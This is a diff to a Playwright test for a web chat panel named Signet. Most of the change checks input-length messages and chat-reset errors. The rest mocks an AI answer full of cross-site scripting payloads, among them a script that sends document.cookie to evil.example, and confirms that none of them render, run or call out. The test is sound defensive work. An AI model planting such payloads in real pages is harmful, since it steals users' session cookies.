@@ -11,6 +11,14 @@ const said = (page: Page, words: string) => expect(page.getByText(words, { exact
 const panel = (page: Page) => page.getByRole('region', { name: 'Chat with Signet' });
 const field = (page: Page) => page.getByLabel('Your question');
 const AT_WORK = { timeout: 90_000 };
+const HOSTILE = [
+  '<script>stolen = 1; fetch("https://evil.example/?d=" + document.cookie)</script>',
+  '<img src="https://evil.example/a.png" onerror="stolen = 1"><svg onload="stolen = 1"><style>@import "//evil.example"',
+  '![brand](https://evil.example/b.png?d=secret) [press](javascript:stolen=1) [here](https://evil.example)',
+  '> <iframe src="https://evil.example"></iframe>',
+  '- “<form action=https://evil.example>”',
+  'The end of it.',
+].join('\n\n');
 
 /** Makes, prepares, tries and publishes the agent, unless an earlier test has. */
 const publish = async (page: Page): Promise<void> => {
@@ -65,7 +73,7 @@ test('a founder asks, stops, sees what failed, and copies before closing; on a p
   trouble,
 }) => {
   test.slow();
-  trouble.expect(/promptStream/);
+  trouble.expect(/promptStream|general\/session/);
   const admin = await (await elsewhere()).newPage();
   await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
   const { email } = await join(page);
@@ -86,6 +94,16 @@ test('a founder asks, stops, sees what failed, and copies before closing; on a p
   const box = () => panel(page).boundingBox();
   const high = Math.min(732, (page.viewportSize()?.height ?? 0) - 92);
   await expect.poll(async () => [(await box())?.width, (await box())?.height]).toEqual([302, high]);
+  await expect(panel(page).getByText(/^AI invents stuff\. Verify all facts & stats\./)).toBeVisible();
+  // spec administration §5
+  await field(page).press('Enter');
+  await said(page, 'Prompt is required');
+  await field(page).fill('a'.repeat(3700));
+  await said(page, '300 characters left');
+  await field(page).fill('a'.repeat(4001));
+  await said(page, '1 character too many');
+  await expect(button(page, 'Send')).toBeDisabled();
+  await field(page).fill('');
   await panel(page).getByRole('button', { name: 'What are our colors?' }).click();
   await expect(panel(page).getByText(/I know no finished brand of yours yet/)).toBeVisible();
 
@@ -101,6 +119,35 @@ test('a founder asks, stops, sees what failed, and copies before closing; on a p
   await field(page).press('Enter');
   await said(page, refusals.chatFailed.message);
   await page.unroute('**/promptStream');
+  // whatever an answer holds is text: nothing in it runs, leads elsewhere or is fetched
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await page.route('**/promptStream', (route) =>
+    route.fulfill({
+      contentType: 'application/x-ndjson',
+      body: [
+        { type: 'text', text: HOSTILE },
+        { type: 'end', turnId: 'a' },
+      ]
+        .map((one) => JSON.stringify(one))
+        .join('\n'),
+    }),
+  );
+  await field(page).fill('Go on');
+  await field(page).press('Enter');
+  await expect(panel(page).getByText(/The end of it/)).toBeVisible();
+  await expect(panel(page).locator('li').last().locator('a, img, script, iframe, svg, form, style')).toHaveCount(0);
+  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
+  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
+  await page.unroute('**/promptStream');
+  await page.route('**/general/session', (route) => route.fulfill({ status: 500, json: {} }));
+  await button(page, 'New chat').click();
+  await said(page, 'Failed to reset chat');
+  await page.unroute('**/general/session');
+  // what could not begin is begun by the next question
+  await field(page).fill('Wait for it');
+  await field(page).press('Enter');
+  await expect(panel(page).getByText(/I know no finished brand of yours yet/)).toBeVisible();
 
   await button(page, 'Hide the chat').click();
   await expect(button(page, 'CHAT WITH SIGNET')).toBeFocused();
@@ -113,7 +160,7 @@ test('a founder asks, stops, sees what failed, and copies before closing; on a p
   await button(page, 'COPY').click();
   await said(page, 'COPIED!');
   await said(page, 'Chat copied!');
-  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('You: What are our colors?');
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('You: Wait for it');
   await button(page, 'CLOSE').click();
   await expect(panel(page)).toHaveCount(0);
 });
